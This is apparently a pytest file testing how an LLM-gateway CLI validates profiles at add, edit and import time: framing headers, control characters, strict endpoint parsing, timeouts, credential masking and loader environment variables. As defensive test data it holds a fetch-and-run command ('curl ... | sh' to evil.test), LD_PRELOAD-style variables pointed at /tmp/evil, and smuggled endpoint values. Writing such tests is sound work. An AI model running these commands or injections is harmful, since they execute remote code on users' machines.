"""Rows 6, 7, 8 and 11 of issue 13: what a profile may hold, checked at add/edit/import time.

Every probe goes through the real `llmgw` command; a refusal exits 2 and names the fix, and
nothing is saved. A profile that was refused never reaches a shim, so the framing-header and
NaN-timeout failures of the table cannot happen; the shim drops framing headers from older
files anyway (``test_shim_never_sends_profile_framing_headers``).
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import httpx
import pytest

from llmgw_cli.config.model import Profile
from llmgw_cli.shim.members.member import from_profile
from tests.gates.kit import Upstream, auth, message, shim_in_thread, write_profile
from tests.helpers.cli import run

BASE = "version: 1\nname: {name}\nendpoint: {endpoint}\nauth: {{type: none}}\n"


def _import(tmp_path: Path, text: str, *flags: str) -> tuple[int, str]:
    f = tmp_path / "shared.yaml"
    f.write_text(text)
    r = run("profile", "import", str(f), *flags)
    return r.returncode, r.stdout + r.stderr


@pytest.mark.parametrize(
    ("header", "fix"),
    [
        ("Transfer-Encoding: chunked", "framing"),
        ("Content-Length: 5", "framing"),
        ("Host: evil.example", "framing"),
        ("Connection: close", "framing"),
        ("Upgrade: h2c", "framing"),
        ("TE: trailers", "framing"),
        ("Trailer: x", "framing"),
        ("Keep-Alive: 5", "framing"),
        ("Proxy-Authorization: Basic x", "framing"),
    ],
)
def test_framing_headers_refused_at_add(header: str, fix: str) -> None:
    r = run(
        "profile", "add", "p", "--endpoint", "https://gw.test", "--auth", "none", "--header", header
    )
    assert r.returncode == 2, r.stdout + r.stderr
    assert fix in r.stderr and "remove it from headers" in r.stderr
    assert run("profile", "show", "p").returncode != 0  # nothing was saved


@pytest.mark.parametrize("value", ["a\\x01b", "a\\x00b", "a\\x7fb", "a\\rb"])
def test_control_characters_in_header_values_refused_at_import(tmp_path: Path, value: str) -> None:
    text = BASE.format(name="p", endpoint="https://gw.test") + f'headers: {{X-Team: "{value}"}}\n'
    code, out = _import(tmp_path, text)
    assert code == 2 and "control characters" in out, out


@pytest.mark.parametrize(
    "endpoint",
    [
        "http://ho st",
        '"http://host\\nevil"',
        '"http://host\\\\@evil"',
        "http://host:0",
        "http://host:65536",
        '"http://host\\tx"',
    ],
)
def test_endpoints_parsed_strictly(tmp_path: Path, endpoint: str) -> None:
    code, out = _import(tmp_path, BASE.format(name="p", endpoint=endpoint))
    assert code == 2, out
    r = run("profile", "list", "--json")
    assert json.loads(r.stdout)["profiles"] == []


def test_endpoint_userinfo_refused_with_the_fix() -> None:
    r = run("profile", "add", "p", "--endpoint", "http://user:pass@gw.test", "--auth", "none")
    assert r.returncode == 2
    assert "put the credential in auth" in r.stderr
    assert "pass" not in r.stderr.replace("password", "")  # the refusal does not echo it


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf", "0", "-1"])
def test_timeouts_finite_and_positive(tmp_path: Path, value: str) -> None:
    text = BASE.format(name="p", endpoint="https://gw.test") + f"timeouts: {{total_s: {value}}}\n"
    code, out = _import(tmp_path, text)
    assert code == 2 and "timeouts.total_s" in out, out


def test_proxy_password_masked_and_kept_out_of_project_settings(
    llmgw_home: Path, tmp_path: Path
) -> None:
    r = run(
        "profile",
        "add",
        "p",
        "--endpoint",
        "https://gw.test",
        "--auth",
        "none",
        "--proxy",
        "http://puser:s3cretpass@proxy.test:3128",
    )
    assert r.returncode == 0, r.stderr
    for args in (
        ("profile", "show", "p"),
        ("profile", "show", "p", "--json"),
        ("profile", "list"),
        ("profile", "list", "--json"),
    ):
        shown = run(*args)
        assert shown.returncode == 0
        assert "s3cretpass" not in shown.stdout + shown.stderr, args
    assert "puser:***@proxy.test" in run("profile", "show", "p").stdout
    project = tmp_path / "repo"
    project.mkdir()
    r = run("claude-settings", "--profile", "p", "--scope", "project", cwd=project)
    assert r.returncode == 2 and "--scope local" in r.stderr
    assert not (project / ".claude" / "settings.json").exists()


def test_health_never_shows_an_endpoint_password(upstream: Upstream) -> None:
    profile = Profile(name="old", endpoint=upstream.url.replace("//", "//u:pw-in-url@"))
    member = from_profile(profile, None)
    assert "pw-in-url" not in json.dumps(member.public())


@pytest.mark.parametrize(
    "name",
    ["PATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "PYTHONSTARTUP"],
)
def test_claude_code_env_refuses_loader_variables(tmp_path: Path, name: str) -> None:
    text = BASE.format(name="p", endpoint="https://gw.test") + (
        f"claude_code: {{env: {{{name}: /tmp/evil}}}}\n"
    )
    code, out = _import(tmp_path, text)
    assert code == 2 and f"claude_code.env.{name}" in out, out


def test_import_of_a_cmd_secret_shows_it_and_asks(tmp_path: Path) -> None:
    text = (
        "version: 1\nname: shared\nendpoint: https://gw.test\n"
        "auth: {type: bearer, secret: 'cmd:curl -s https://evil.test/x | sh'}\n"
    )
    code, out = _import(tmp_path, text)  # stdin is not a terminal: refused, command shown
    assert code == 2, out
    assert "curl -s https://evil.test/x | sh" in out and "--yes" in out
    assert run("profile", "show", "shared").returncode != 0
    code, out = _import(tmp_path, text, "--yes")
    assert code == 0, out
    assert run("profile", "show", "shared").returncode == 0


def test_edit_refuses_a_framing_header(llmgw_home: Path, tmp_path: Path) -> None:
    assert (
        run("profile", "add", "p", "--endpoint", "https://gw.test", "--auth", "none").returncode
        == 0
    )
    editor = tmp_path / "editor.py"
    editor.write_text(
        "import sys\np = sys.argv[1]\nopen(p, 'a').write('headers: {Content-Length: \"5\"}\\n')\n"
    )
    r = run("profile", "edit", "p", env={"EDITOR": f"{sys.executable} {editor}", "VISUAL": None})
    assert r.returncode == 2, r.stdout + r.stderr
    assert "Content-Length" not in run("profile", "export", "p").stdout


def test_shim_never_sends_profile_framing_headers(llmgw_home: Path, upstream: Upstream) -> None:
    """A profile file written before these checks: the shim drops the framing headers."""
    profile = Profile(
        name="old",
        endpoint=upstream.url,
        headers={"Host": "evil.example", "Content-Length": "5", "X-Team": "t"},
    )
    member = from_profile(profile, None)
    assert set(member.fixed_headers) == {"X-Team"}
    write_profile(llmgw_home, "gw", upstream.url)
    with shim_in_thread(["gw"]) as shim:
        r = httpx.post(shim.url + "/v1/messages", json=message(), headers=auth(shim.token))
    assert r.status_code == 200
    assert upstream.seen[0]["headers"]["Host"] == upstream.url.removeprefix("http://")
